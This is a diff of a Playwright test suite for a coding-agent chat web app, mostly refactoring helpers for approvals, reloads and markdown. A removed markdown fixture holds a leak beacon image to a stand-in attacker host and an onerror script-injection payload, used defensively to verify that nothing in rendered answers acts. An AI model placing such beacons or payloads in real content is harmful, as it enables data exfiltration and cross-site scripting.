@@ -6,18 +6,22 @@ import json
 import re
 
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import expect
 
 from tests.browser.axe import faults_of
 from tests.browser.conftest import PHONE, WIDE
 from tests.browser.talking import (
+    MARKDOWN,
     OpenChat,
     answers,
+    approval,
     begin,
     bubbles,
     counted,
     identity,
+    import_lines,
     open_window,
+    reload_until,
     rests,
     say,
     stack,
@@ -32,7 +36,6 @@ def test_from_the_first_visit_to_the_first_streamed_answer(open_window: OpenChat
     page = open_window("/")
     page.get_by_role("link", name="Open chat").click()
     page.get_by_role("button", name="List the files", exact=True).click()
-
     expect(page.get_by_role("heading", level=1)).to_have_text("List the files")
     expect(bubbles(page)).to_have_text("List the files")
     call = page.locator(".call")
@@ -47,7 +50,6 @@ def test_from_the_first_visit_to_the_first_streamed_answer(open_window: OpenChat
 
 def test_words_arrive_while_they_are_said_and_no_live_region_repeats_them(open_window: OpenChat):
     page = begin(open_window(), "count to 120")
-
     expect(page.locator("[data-lines]")).to_have_attribute("aria-busy", "true")
     expect(page.locator("[data-announce]")).to_have_text("Answering")
     expect(answers(page)).to_contain_text("20 21")
@@ -57,11 +59,29 @@ def test_words_arrive_while_they_are_said_and_no_live_region_repeats_them(open_w
     expect(page.locator("[data-announce]")).to_have_text("Answer finished")
 
 
+def test_the_whole_way_by_keyboard(open_window: OpenChat):
+    page = open_window("/")
+    for key in ("g", "c"):
+        page.keyboard.press(key)
+    expect(page.get_by_role("heading", level=1)).to_have_text("Chat")
+    page.keyboard.press("/")
+    page.keyboard.type("run echo hi\n")
+    expect(approval(page)).to_be_visible()
+    page.keyboard.press("Control+Enter")
+    expect(answers(page).last).to_contain_text("hi")
+    rests(page)
+    for key in ("Escape", "g", "s"):
+        page.keyboard.press(key)
+    expect(page.get_by_role("heading", level=1)).to_have_text("Sessions")
+    page.get_by_role("link", name="run echo hi").first.focus()
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text("run echo hi")
+
+
 def test_escape_stops_an_answer_and_keeps_what_was_said(open_window: OpenChat):
     page = begin(open_window(), "count to 2000")
     expect(answers(page)).to_contain_text("15 16")
     page.keyboard.press("Escape")
-
     expect(page.locator(".is-note")).to_contain_text("Stopped")
     rests(page)
     said = answers(page).inner_text().split()
@@ -77,13 +97,11 @@ def test_a_reload_in_mid_answer_shows_all_of_it_once(open_window: OpenChat):
         expect(answers(page)).to_contain_text(word)
         page.reload()
         expect(answers(page)).to_contain_text(word)
-
-    expect(answers(page)).to_have_text(counted(250))
+    expect(answers(page)).to_have_text([counted(250)])
     rests(page)
-    expect(answers(page)).to_have_count(1)
     expect(bubbles(page)).to_have_count(1)
     page.reload()
-    expect(answers(page)).to_have_text(counted(250))
+    expect(answers(page)).to_have_text([counted(250)])
 
 
 def test_two_windows_see_the_same(open_window: OpenChat):
@@ -91,7 +109,6 @@ def test_two_windows_see_the_same(open_window: OpenChat):
     second = open_window(first.url)
     expect(answers(second)).to_contain_text("40 41")
     say(second, "count to 4")
-
     for page in (first, second):
         expect(answers(page)).to_have_text([counted(150), "1 2 3 4"])
         expect(bubbles(page)).to_have_text(["count to 150", "count to 4"])
@@ -108,9 +125,7 @@ def test_a_connection_cut_again_and_again_ends_with_the_same_text(open_window: O
         page.wait_for_timeout(150)
         page.context.set_offline(False)
         page.wait_for_timeout(350)
-
-    expect(answers(page)).to_have_text(counted(400))
-    expect(answers(page)).to_have_count(1)
+    expect(answers(page)).to_have_text([counted(400)])
     rests(page)
     assert len(sockets) > 6
 
@@ -123,14 +138,13 @@ def test_what_is_sent_without_a_connection_arrives_once(open_window: OpenChat):
     say(page, "count to 3")
     expect(page.locator(".line[data-receipt=sending]")).to_contain_text("Sending…")
     page.context.set_offline(False)
-
     expect(answers(page)).to_have_text(["1 2", "1 2 3"])
     expect(bubbles(page)).to_have_text(["count to 2", "count to 3"])
 
 
 def test_a_command_runs_when_it_is_allowed(open_window: OpenChat):
     page = begin(open_window(), "run echo hello")
-    card = page.get_by_role("region", name="Run a command?")
+    card = approval(page)
     expect(card).to_contain_text("may change the session's files")
     arguments = card.get_by_role("textbox", name="Exactly these arguments")
     expect(arguments).to_have_value(re.compile('"command": "echo hello"'))
@@ -139,7 +153,6 @@ def test_a_command_runs_when_it_is_allowed(open_window: OpenChat):
     expect(card.get_by_role("alert")).to_contain_text("not JSON")
     arguments.fill(json.dumps({"command": "echo good-bye"}))
     page.keyboard.press("Control+Enter")
-
     expect(card).to_have_count(0)
     expect(answers(page).last).to_contain_text("good-bye")
     expect(page.locator(".call")).to_have_attribute("data-state", "completed")
@@ -149,24 +162,18 @@ def test_a_command_runs_when_it_is_allowed(open_window: OpenChat):
 
 def test_a_command_that_is_denied_does_not_run_and_the_agent_hears_why(open_window: OpenChat):
     page = begin(open_window(), "run echo hello")
-    card = page.get_by_role("region", name="Run a command?")
+    card = approval(page)
     expect(page.locator("[data-announce]")).to_have_text("A call needs your approval")
     page.reload()
     card.get_by_label("Reason for denying").fill("not on a Monday")
     card.get_by_role("button", name="Deny").click()
-
     expect(page.locator(".call-end")).to_contain_text("Denied")
     expect(answers(page).last).to_contain_text("not on a Monday")
     rests(page)
-
-
-def test_control_backspace_denies_from_an_empty_composer(open_window: OpenChat):
-    page = begin(open_window(), "run echo hello")
-    expect(page.get_by_role("region", name="Run a command?")).to_be_visible()
-    page.get_by_role("textbox", name="Message Coder").focus()
+    say(page, "run echo again")
+    expect(card).to_be_visible()
     page.keyboard.press("Control+Backspace")
-
-    expect(page.locator(".call")).to_have_attribute("data-state", "denied")
+    expect(page.locator(".call").last).to_have_attribute("data-state", "denied")
 
 
 def test_waiting_messages_are_edited_taken_back_and_answered_in_turn(open_window: OpenChat):
@@ -182,7 +189,6 @@ def test_waiting_messages_are_edited_taken_back_and_answered_in_turn(open_window
     page.get_by_role("textbox", name="Waiting message").fill("say deux")
     page.keyboard.press("Enter")
     expect(waiting(page).first).to_contain_text("say deux")
-
     expect(answers(page)).to_have_text([counted(300), "deux", "four"])
     expect(bubbles(page)).to_have_text(["count to 300", "say deux", "say four"])
     expect(waiting(page)).to_have_count(0)
@@ -193,10 +199,7 @@ def test_waiting_messages_are_edited_taken_back_and_answered_in_turn(open_window
 def test_a_message_may_join_the_answer_or_end_it(open_window: OpenChat):
     page = begin(open_window(), "wait for 2 seconds")
     expect(page.locator(".call")).to_have_attribute("data-state", "running")
-    composer = page.get_by_role("textbox", name="Message Coder")
-    composer.fill("say joined")
-    page.get_by_role("combobox", name="When to send it").select_option("steer")
-    composer.press("Enter")
+    say(page, "say joined", "steer")
     expect(bubbles(page)).to_have_text(["wait for 2 seconds", "say joined"])
     expect(waiting(page)).to_have_count(0)
     expect(answers(page).last).to_contain_text("joined")
@@ -204,9 +207,7 @@ def test_a_message_may_join_the_answer_or_end_it(open_window: OpenChat):
 
     say(page, "count to 2000")
     expect(answers(page).last).to_contain_text("5 6")
-    composer.fill("say instead")
-    page.get_by_role("combobox", name="When to send it").select_option("interrupt")
-    composer.press("Enter")
+    say(page, "say instead", "interrupt")
     expect(answers(page).last).to_have_text("instead")
     expect(page.locator(".is-note")).to_contain_text("Stopped")
 
@@ -219,25 +220,8 @@ def test_a_draft_is_kept_and_an_error_can_be_tried_again(open_window: OpenChat):
     page.reload()
     expect(page.get_by_role("textbox", name="Message Coder")).to_have_value("half a thou")
     trouble.get_by_role("button", name="Retry").click()
-
     expect(trouble).to_have_count(2)
     expect(trouble.first.get_by_role("button")).to_have_count(0)
-
-
-MARKDOWN = """say # Report
-
-Some **bold** words, `code` and [a link](https://example.com/x).
-
-```python
-print("<b>")
-```
-
-![pixel](https://evil.example/?leak=1) <img src=x onerror="window.broken=1">
-
-| a | b |
-|---|--:|
-| 1 | 2 |
-"""
 
 
 def test_markdown_is_shown_and_nothing_in_it_acts(open_window: OpenChat):
@@ -251,7 +235,6 @@ def test_markdown_is_shown_and_nothing_in_it_acts(open_window: OpenChat):
     said = answers(page).last
     expect(said.locator("td.is-right")).to_have_text("2")
     rests(page)
-
     expect(said.get_by_role("heading", name="Report")).to_be_visible()
     expect(said.locator("img")).to_have_count(0)
     expect(said.get_by_role("link", name="a link")).to_have_attribute("rel", re.compile("noopener"))
@@ -261,22 +244,9 @@ def test_markdown_is_shown_and_nothing_in_it_acts(open_window: OpenChat):
     assert not [url for url in asked if "evil.example" in url]
 
 
-IMPORT = """async ([count, token]) => {
-    const agents = await (await fetch("/api/v1/agents/")).json();
-    const lines = Array.from({length: count}, (_, n) => JSON.stringify({
-        type: "agent.message", payload: {text: `Line number ${n + 1}.`}}));
-    const answer = await fetch(`/api/v1/sessions/import/?agent=${agents.results[0].id}`, {
-        method: "POST", body: lines.join("\\n"),
-        headers: {"Content-Type": "application/x-ndjson", "X-CSRFToken": token}});
-    return (await answer.json()).id;
-}"""
-
-
 def test_a_long_session_opens_at_its_end_and_shows_more_when_asked(open_window: OpenChat):
     page = open_window()
-    token = page.locator("[name=csrfmiddlewaretoken]").first.get_attribute("value")
-    session_id = page.evaluate(IMPORT, [450, token])
-    page.goto(f"/chat/{session_id}/")
+    page.goto(f"/chat/{import_lines(page, 450)}/")
     expect(answers(page)).to_have_count(200)
     expect(answers(page).last).to_be_in_viewport()
     page.get_by_role("link", name="Show earlier").click()
@@ -287,7 +257,6 @@ def test_a_long_session_opens_at_its_end_and_shows_more_when_asked(open_window: 
     expect(answers(page).first).to_have_text("Line number 1.")
     expect(page.get_by_role("link", name="Show earlier")).to_have_count(0)
     page.get_by_role("button", name="Latest").click()
-
     expect(answers(page).last).to_be_in_viewport()
 
 
@@ -297,21 +266,10 @@ def test_without_a_script_one_talks_by_forms(open_window: OpenChat):
     page.locator("label", has_text="Coder").click()
     page.get_by_role("button", name="Send").click()
     expect(bubbles(page)).to_have_text("run echo hello")
-    until(page, page.get_by_role("button", name="Allow once"))
+    reload_until(page, page.get_by_role("button", name="Allow once"))
     page.get_by_role("button", name="Allow once").click()
-    until(page, page.get_by_text("exit code 0").first)
-
+    reload_until(page, page.get_by_text("exit code 0").first)
     expect(answers(page).last).to_contain_text("hello")
-
-
-def until(page: Page, wanted) -> None:
-    """Reload until it is there, as somebody without a script would."""
-    for _ in range(100):
-        if wanted.count():
-            return
-        page.wait_for_timeout(200)
-        page.reload()
-    raise AssertionError("It never came.")
 
 
 @pytest.mark.parametrize(
@@ -320,43 +278,22 @@ def until(page: Page, wanted) -> None:
 def test_axe_finds_no_serious_fault(open_window: OpenChat, size, theme):
     page = open_window(viewport=size, color_scheme=theme)
     faults = faults_of(page)
-    begin(page, "list the files")
+    begin(page, "list the files and then list the files in . and then list the files in ./")
     rests(page)
     say(page, MARKDOWN)
     expect(answers(page).last.locator("td").last).to_be_visible()
     rests(page)
-    page.locator(".call summary").click()
+    page.locator(".call summary").first.click()
     say(page, "run echo hello")
-    expect(page.get_by_role("region", name="Run a command?")).to_be_visible()
+    expect(approval(page)).to_be_visible()
     say(page, "say later")
     expect(waiting(page)).to_have_count(1)
     faults += faults_of(page)
     assert page.evaluate("document.documentElement.scrollWidth") == size["width"]
+    expect(page.get_by_role("button", name="Inspector")).to_be_in_viewport(ratio=1)
     for path in ("/sessions/", "/sessions/?q=nothing-like-this", "/settings/providers/"):
         page.goto(path)
         faults += faults_of(page)
         assert page.evaluate("document.documentElement.scrollWidth") == size["width"]
 
     assert faults == []
-
-
-def test_the_whole_way_by_keyboard(open_window: OpenChat):
-    page = open_window("/")
-    page.keyboard.press("g")
-    page.keyboard.press("c")
-    expect(page.get_by_role("heading", level=1)).to_have_text("Chat")
-    page.keyboard.press("/")
-    page.keyboard.type("run echo hi")
-    page.keyboard.press("Enter")
-    expect(page.get_by_role("region", name="Run a command?")).to_be_visible()
-    page.keyboard.press("Control+Enter")
-    expect(answers(page).last).to_contain_text("hi")
-    rests(page)
-    page.keyboard.press("Escape")
-    page.keyboard.press("g")
-    page.keyboard.press("s")
-    expect(page.get_by_role("heading", level=1)).to_have_text("Sessions")
-    page.get_by_role("link", name="run echo hi").first.focus()
-    page.keyboard.press("Enter")
-
-    expect(page.get_by_role("heading", level=1)).to_have_text("run echo hi")
